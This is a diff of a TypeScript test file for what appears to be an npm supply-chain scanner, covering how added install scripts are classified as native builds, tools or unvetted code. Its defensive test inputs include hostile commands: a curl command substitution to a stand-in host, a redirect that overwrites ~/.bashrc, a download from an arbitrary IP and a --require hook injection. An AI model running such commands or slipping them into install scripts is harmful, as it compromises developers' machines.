@@ -496,17 +496,19 @@ describe('diffReleases and manifestConfusion (pure)', () => {
   test('an added install script is a native build only when every command is a build step and its install-time code reaches nothing', () => {
     const quiet: Finding[] = [{ rule: 'install-scripts', severity: 'low', message: 'install script runs scripts/check.js on every install', file: 'package.json', reach: 'install', signals: ['install-script'] }];
     const net: Finding = { rule: 'network', severity: 'info', message: 'network access via https.get', file: 'scripts/check.js', line: 3, reach: 'install', signals: ['sink:network'] };
-    const kind = (command: string, findings: readonly Finding[] = quiet) => classifyAddedScript(command, { findings }).kind;
+    const meta: VersionMeta = { dependencies: { 'prebuild-install': '^7.0.0', 'node-gyp-build': '^4.0.0' }, scripts: { 'build-release': 'node-gyp rebuild --release', 'build-debug': 'node build.js', 'loop': 'npm run loop' } };
+    const kind = (command: string, findings: readonly Finding[] = quiet) => classifyAddedScript(command, { findings, meta }).kind;
     expect(kind('node-gyp rebuild')).toBe('native-build');
     expect(kind('prebuild-install -r napi || node-gyp rebuild')).toBe('native-build');
     expect(kind('node scripts/check.js || node-gyp rebuild')).toBe('native-build');
     expect(kind('node ./install.js || node-gyp-build || exit 0')).toBe('native-build');
     expect(kind('node-gyp rebuild || echo "optional build failed"')).toBe('native-build');
+    expect(kind('prebuild-install || npm run build-release')).toBe('native-build');
     expect(kind('husky install')).toBe('tool');
     // Code we cannot vouch for: a plain node script, a capability in install-time code, code not analyzed.
     expect(kind('node setup.js')).toBe('code');
     expect(kind('node scripts/check.js || node-gyp rebuild', [...quiet, net])).toBe('code');
-    expect(classifyAddedScript('node scripts/check.js || node-gyp rebuild', { findings: [...quiet, net] })).toEqual({ kind: 'code', why: 'install-time code has network access (scripts/check.js:3)' });
+    expect(classifyAddedScript('node scripts/check.js || node-gyp rebuild', { findings: [...quiet, net], meta })).toEqual({ kind: 'code', why: 'install-time code has network access (scripts/check.js:3)' });
     expect(classifyAddedScript('node scripts/check.js || node-gyp rebuild', {})).toEqual({ kind: 'code', why: 'install-time code not analyzed' });
     expect(kind('node scripts/check.js || node-gyp rebuild', [{ ...quiet[0]!, severity: 'medium', message: 'install script runs scripts/check.js, which is not in the package' }])).toBe('code');
     // Commands around the build tool, or a build tool told to fetch from anywhere.
@@ -520,6 +522,14 @@ describe('diffReleases and manifestConfusion (pure)', () => {
     expect(kind('node --require ./hook.js check.js || node-gyp rebuild')).toBe('code');
     expect(kind('node ../other/check.js || node-gyp rebuild')).toBe('code');
     expect(kind('prebuild-install --download https://203.0.113.5/addon.tar.gz')).toBe('code');
+    // A build tool the release does not depend on is some other dependency's bin of that name.
+    expect(classifyAddedScript('cmake-js compile', { findings: quiet, meta }).kind).toBe('code');
+    expect(classifyAddedScript('cmake-js compile', { findings: quiet, meta: { dependencies: { 'cmake-js': '^7' } } }).kind).toBe('native-build');
+    // npm run: only build tools there (install-time reach does not follow it into node files), no loops.
+    expect(kind('prebuild-install || npm run build-debug')).toBe('code');
+    expect(kind('prebuild-install || npm run loop')).toBe('code');
+    expect(kind('prebuild-install || npm run missing')).toBe('code');
+    expect(kind('prebuild-install || npm run build-release -- --target=x')).toBe('code');
     expect(kind('node-gyp rebuild > ~/.bashrc')).toBe('code');
     expect(kind('exit $(curl -s https://x.invalid)')).toBe('code');
     expect(kind('node-gyp rebuild || echo `node setup.js`', [...quiet, net])).toBe('code');
